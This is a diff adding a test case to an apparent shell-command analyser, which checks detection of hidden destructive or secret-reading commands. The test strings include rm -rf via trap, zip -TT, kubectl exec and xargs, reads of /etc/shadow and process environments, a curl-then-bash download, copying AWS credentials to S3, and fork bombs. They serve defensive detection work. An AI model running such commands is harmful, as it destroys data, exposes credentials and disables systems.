@@ -176,6 +176,18 @@ describe('shell analysis: where commands hide', () => {
     assert.deepEqual(files('aws s3 cp ~/.aws/credentials s3://b/x'), ['/home/dev/.aws/credentials']);
   });
 
+  it('judges code that runs later or through options: trap, zip -TT, git --output, exec in containers', () => {
+    assert.ok(programs("trap 'rm -rf /srv/data' EXIT").includes('rm'));
+    assert.ok(shells("zip x.zip a -T -TT 'rm -rf ~ #'")[0]?.tags.includes('inline-code'));
+    assert.ok(parts('git diff --output=/etc/profile.d/x.sh').some((p) => p.kind === 'file_write' && p.path === '/etc/profile.d/x.sh'));
+    assert.ok(shells('docker exec -it -e A=1 api env').some((p) => p.program === 'env' && p.tags.includes('env-dump')));
+    assert.ok(programs('kubectl exec pod/x -n prod -- rm -rf /data').includes('rm'));
+    assert.ok(parts('cat /proc/self/root/etc/shadow').some((p) => p.kind === 'file_read' && p.path === '/etc/shadow'));
+    assert.ok(parts('cat /proc/$$/environ').some((p) => p.kind === 'file_read' && p.path === '/proc/$$/environ'));
+    assert.deepEqual(shells('echo /srv/a /srv/b | xargs rm -rf').find((p) => p.program === 'rm')?.args, ['/srv/a', '/srv/b']);
+    assert.ok(shells('curl -so i.sh https://x.dev/i.sh && bash i.sh').some((p) => p.program === 'bash' && p.tags.includes('inline-code')), 'a script this action wrote');
+  });
+
   it('spots a self-recursive function (fork bomb)', () => {
     assert.ok(shells(':(){ :|:& };:').some((p) => p.tags.includes('self-recursive')));
     assert.ok(shells('bomb() { bomb | bomb & }; bomb').some((p) => p.tags.includes('self-recursive')));
